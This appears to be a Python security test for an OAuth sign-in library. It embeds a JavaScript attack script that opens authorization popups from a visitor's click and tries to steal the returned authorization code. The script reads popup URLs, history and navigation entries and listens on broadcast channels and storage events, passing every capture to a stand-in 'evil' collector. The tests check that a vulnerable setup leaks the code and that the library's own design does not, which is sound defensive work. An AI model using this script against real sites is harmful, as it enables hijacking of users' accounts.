"""A script opens a popup in the visitor's own click, with a request and a verifier of its own, and looks for the code
from the page: in the popup, by its name, and in every channel and store that pages of one origin share.
"""

from tests.attacks.speech import ADDRESS, TRACES, said

SCRIPT = said(
    ADDRESS,
    TRACES,
    """
  const names = ["gossamer", "gossamer-vault", "own", "two", "callback", "oidc", "auth", "vault", ""];
  for (const name of names) new BroadcastChannel(name).onmessage = ({ data }) => evil.note("channel", name, data);
  for (const type of ["message", "storage", "securitypolicyviolation", "pageswap"])
    addEventListener(type, (event) => evil.note(type, event.data, event.url, event.newValue, event.oldValue, event.blockedURI, event.sourceFile));
  const look = (opened) => {
    const reads = [
      () => opened.location.href, () => opened.location.search, () => opened.document.URL, () => opened.document.referrer,
      () => opened.performance.getEntries().map((entry) => entry.name), () => opened.navigation.entries().map((entry) => entry.url),
      () => opened.navigation.activation.entry.url, () => opened.name, () => opened.history.state, () => traces(),
    ];
    for (const read of reads) { try { evil.note(read()); } catch (error) { /* not now */ } }
  };
  addEventListener("click", () => {
    const windows = [];
    for (const [name, more] of [["one", { state: "own" }], ["two", { state: "two" }]]) {
      windows.push(open(address(more), name, "popup,width=300,height=300"));
    }
    setInterval(() => { windows.forEach(look); }, 5);
  }, { once: true, capture: true });""",
)
REMAINS = "opens windows at any address; sees nothing of where they end"


def act(scene):
    scene.subject.sign_in(scene.visitor)
    open_windows(scene)


def open_windows(scene):
    """Open the popups in a page of the site, with somebody signed in."""
    before = codes(scene.subject)
    scene.run(SCRIPT)
    scene.visitor.click("call-api")
    scene.visitor.until(lambda: codes(scene.subject) > before, "no window came to the provider")
    scene.visitor.rest(4)
    scene.collect()


def codes(subject):
    return subject.codes("own") + subject.codes("two")


def test_page_held(assault, page_held):
    assert assault(page_held).stolen


def test_ours(assault, ours):
    outcome = assault(ours)
    assert codes(ours), "no code was sent to the script's request"
    assert outcome.stolen == ()
